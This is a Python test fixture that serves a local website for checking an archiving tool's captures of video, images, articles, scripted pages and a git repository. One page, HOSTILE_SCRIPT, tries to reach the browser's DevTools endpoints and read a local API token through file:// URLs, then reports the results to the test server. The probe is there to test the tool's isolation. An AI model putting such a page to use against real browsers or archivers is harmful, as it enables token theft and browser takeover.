"""A local site for the capture-breadth checks (no internet): media, a gallery, a git repository.

Routes:

- ``/video/``: a page with an HTML5 ``<video>`` of ``/media/clip.mp4`` (a 2 s MP4 made with
  ffmpeg) and an English subtitles ``<track>``; ``/media/clip.mp4`` the file itself (a direct link);
- ``/cut/``: the same page whose video is ``/cut/clip.mp4``, which announces the whole file's
  length, sends half of it and closes the connection (a download cut half way);
- ``/gallery/``: a page of three ``<img>`` (``/images/<n>.png``);
- ``/article/``: an article with navigation around it, an image, and an image from another origin
  (``localhost``; SingleFile's check);
- ``/scripted/``: a page whose text its script fetches (``/scripted/app.js`` loads
  ``/scripted/story.json`` = ``SCRIPTED_TEXT``): wget keeps the page and the script, not the story;
- ``/git/<name>.git``: a bare repository over git's smart HTTP (``git http-backend``), holding
  one commit with ``README.md`` = ``REPO_README``.
"""

from __future__ import annotations

import json
import os
import shutil
import struct
import subprocess
import threading
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qsl, urlsplit

REPO_README = "Boxcar test repository: cloned over smart HTTP."
ARTICLE_TEXT = "The lighthouse keeper counted forty-one ships passing the northern cape that winter."
NAV_TEXT = "Subscribe to our partner newsletter"
#: what ``/scripted/`` shows once its script has fetched ``/scripted/story.json`` (not in its HTML)
SCRIPTED_TEXT = "The night ferry left Stornoway at eleven with ninety-two passengers aboard."
SUBTITLES = "WEBVTT\n\n00:00.000 --> 00:01.500\nThe test card hums along.\n"


def png(width: int, height: int, rgb: tuple[int, int, int]) -> bytes:
    """A solid-colour PNG (stdlib only)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\x00" + bytes(rgb) * width
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(row * height))
        + chunk(b"IEND", b"")
    )


def make_clip(path: Path) -> bytes:
    """A 2-second 160x120 H.264/AAC MP4 made with ffmpeg."""
    subprocess.run(
        ["ffmpeg", "-v", "error", "-y", "-f", "lavfi", "-i", "testsrc=duration=2:size=160x120:rate=10",
         "-f", "lavfi", "-i", "sine=duration=2", "-shortest", "-c:v", "libx264", "-pix_fmt", "yuv420p",
         "-c:a", "aac", "-movflags", "+faststart", str(path)],
        check=True,
    )  # fmt: skip
    return path.read_bytes()


def make_repo(root: Path, name: str) -> Path:
    """A bare repository ``root/<name>.git`` with one commit."""
    work = root / f"{name}-work"
    bare = root / f"{name}.git"
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@x", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@x"}  # fmt: skip
    subprocess.run(["git", "init", "-q", "-b", "main", str(work)], check=True, env=env)
    (work / "README.md").write_text(REPO_README + "\n")
    subprocess.run(["git", "-C", str(work), "add", "README.md"], check=True, env=env)
    subprocess.run(["git", "-C", str(work), "commit", "-qm", "first"], check=True, env=env)
    subprocess.run(["git", "clone", "-q", "--bare", str(work), str(bare)], check=True, env=env)
    shutil.rmtree(work)
    return bare


#: A captured page that tries what the issue's probe did from inside the archiver's Chromium: the
#: browser's DevTools WebSocket and HTTP endpoints, local files (the API token), the CDP URL file
#: the UI used to serve; each outcome is reported to ``/report``, then ``done``.
HOSTILE_SCRIPT = """<h1>Hostile</h1><iframe src="file://%(token_file)s"></iframe><script>
function report(what, outcome) { new Image().src = "/report?" + what + "=" + encodeURIComponent(outcome); }
const read = (what) => (r) => r.text().then((t) => report(what, "read:" + t.slice(0, 80)));
const refused = (what) => () => report(what, "refused");
const tries = [
  new Promise((done) => {
    let ws;
    try { ws = new WebSocket("%(devtools_ws)s"); } catch (e) { report("devtools-ws", "refused"); return done(); }
    ws.onopen = () => { report("devtools-ws", "open"); ws.send(JSON.stringify({id: 1, method: "Target.getTargets"})); };
    ws.onmessage = (m) => { report("devtools-ws", "read:" + String(m.data).slice(0, 80)); done(); };
    ws.onerror = () => { report("devtools-ws", "refused"); done(); };
    ws.onclose = () => done();
  }),
  fetch("%(devtools_http)s").then(read("devtools-http"), refused("devtools-http")),
  fetch("file://%(token_file)s").then(read("token-file"), refused("token-file")),
  fetch("%(cdp_file)s").then(read("cdp-file"), refused("cdp-file")),
];
Promise.all(tries).then(() => report("done", "1"));
</script>"""


def page(title: str, body: str) -> bytes:
    return f"<!DOCTYPE html><html><head><title>{title}</title></head><body>{body}</body></html>".encode()


class CaptureSite:
    """``with CaptureSite(tmp_path) as site: site.url("/video/")``."""

    def __init__(self, root: Path) -> None:
        root.mkdir(parents=True, exist_ok=True)
        self.root = root
        self.clip = make_clip(root / "clip.mp4")
        make_repo(root / "git", "sample")
        self.hits: dict[str, int] = {}
        #: what ``/hostile/devtools`` tries to reach (set by the test) and what it reported reaching
        self.hostile: dict[str, str] = {}
        self.reports: list[tuple[str, str]] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args) -> None:
                pass

            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                site.serve(self)

            def do_POST(self) -> None:  # noqa: N802
                site.serve(self)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"

    def url(self, path: str) -> str:
        return self.base + path

    def serve(self, req: BaseHTTPRequestHandler) -> None:
        parts = urlsplit(req.path)
        path = parts.path
        self.hits[path] = self.hits.get(path, 0) + 1
        if path.startswith("/git/"):
            return self._git(req, path.removeprefix("/git"), parts.query)
        html = "text/html; charset=utf-8"
        if path == "/video/":
            video = (
                '<video controls src="/media/clip.mp4">'
                '<track kind="subtitles" srclang="en" label="English" src="/media/clip.en.vtt"></video>'
            )
            return self._send(req, 200, html, page("A short clip", f"<h1>A short clip</h1>{video}"))
        if path == "/cut/":
            return self._send(
                req, 200, html, page("A cut clip", '<h1>A cut clip</h1><video controls src="/cut/clip.mp4"></video>')
            )
        if path == "/media/clip.mp4":
            return self._send(req, 200, "video/mp4", self.clip)
        if path == "/media/clip.en.vtt":
            return self._send(req, 200, "text/vtt", SUBTITLES.encode())
        if path == "/cut/clip.mp4":  # the whole length announced, half of it sent
            req.send_response(200)
            req.send_header("Content-Type", "video/mp4")
            req.send_header("Content-Length", str(len(self.clip)))
            req.end_headers()
            req.wfile.write(self.clip[: len(self.clip) // 2])
            req.wfile.flush()
            req.close_connection = True
            return None
        if path == "/gallery/":
            imgs = "".join(f'<figure><img src="/images/{n}.png" alt="photo {n}"></figure>' for n in (1, 2, 3))
            return self._send(req, 200, html, page("Holiday photos", f"<h1>Holiday photos</h1>{imgs}"))
        if path.startswith("/images/") and path.endswith(".png"):
            n = int(path.rsplit("/", 1)[1].removesuffix(".png"))
            return self._send(req, 200, "image/png", png(40 + n, 30, (200, 40 * n, 60)))
        if path == "/article/":
            body = (
                f'<nav><a href="/">Home</a> <a href="/news/">{NAV_TEXT}</a></nav><article><h1>Winter at the cape</h1>'
                f'<p>{ARTICLE_TEXT}</p><img src="/images/2.png" alt="the cape" width="42" height="30">'
                # the same image server on another origin (no CORS headers): SingleFile must still inline it
                f'<img src="{self.base.replace("127.0.0.1", "localhost")}/images/3.png" alt="elsewhere">'
                + "<p>Storms came from the west, and the harbour stayed closed for eleven days in a row.</p>" * 6
                + "</article>"
            )
            return self._send(req, 200, html, page("Winter at the cape", body))
        if path == "/scripted/":
            body = '<h1>Tonight\'s story</h1><main id="story">Loading…</main><script src="/scripted/app.js"></script>'
            return self._send(req, 200, html, page("A page its script fills", body))
        if path == "/scripted/app.js":
            script = (
                "fetch('/scripted/story.json').then(r => r.json())"
                ".then(d => { document.getElementById('story').textContent = d.text; });"
            )
            return self._send(req, 200, "text/javascript", script.encode())
        if path == "/scripted/story.json":
            return self._send(req, 200, "application/json", json.dumps({"text": SCRIPTED_TEXT}).encode())
        if path == "/hostile/devtools":
            return self._send(req, 200, html, page("A page that wants the browser", HOSTILE_SCRIPT % self.hostile))
        if path == "/report":
            self.reports.extend(parse_qsl(parts.query))
            return self._send(req, 204, "text/plain", b"")
        return self._send(req, 404, html, page("Not found", path))

    def _send(self, req: BaseHTTPRequestHandler, status: int, ctype: str, body: bytes) -> None:
        req.send_response(status)
        req.send_header("Content-Type", ctype)
        req.send_header("Content-Length", str(len(body)))
        req.end_headers()
        req.wfile.write(body)

    def _git(self, req: BaseHTTPRequestHandler, path_info: str, query: str) -> None:
        """git's smart HTTP through ``git http-backend`` (CGI)."""
        length = int(req.headers.get("Content-Length") or 0)
        body = req.rfile.read(length) if length else b""
        env = {
            **os.environ,
            "GIT_PROJECT_ROOT": str(self.root / "git"),
            "GIT_HTTP_EXPORT_ALL": "1",
            "PATH_INFO": path_info,
            "QUERY_STRING": query,
            "REQUEST_METHOD": req.command,
            "CONTENT_TYPE": req.headers.get("Content-Type", ""),
            "CONTENT_LENGTH": str(len(body)),
            "GIT_PROTOCOL": req.headers.get("Git-Protocol", ""),
        }
        out = subprocess.run(["git", "http-backend"], input=body, env=env, capture_output=True).stdout
        head, _, payload = out.partition(b"\r\n\r\n")
        status, headers = 200, []
        for line in head.decode("latin-1").split("\r\n"):
            key, _, value = line.partition(":")
            if key.lower() == "status":
                status = int(value.strip().split()[0])
            elif key:
                headers.append((key, value.strip()))
        req.send_response(status)
        for key, value in headers:
            req.send_header(key, value)
        req.send_header("Content-Length", str(len(payload)))
        req.end_headers()
        req.wfile.write(payload)

    def __enter__(self) -> CaptureSite:
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()
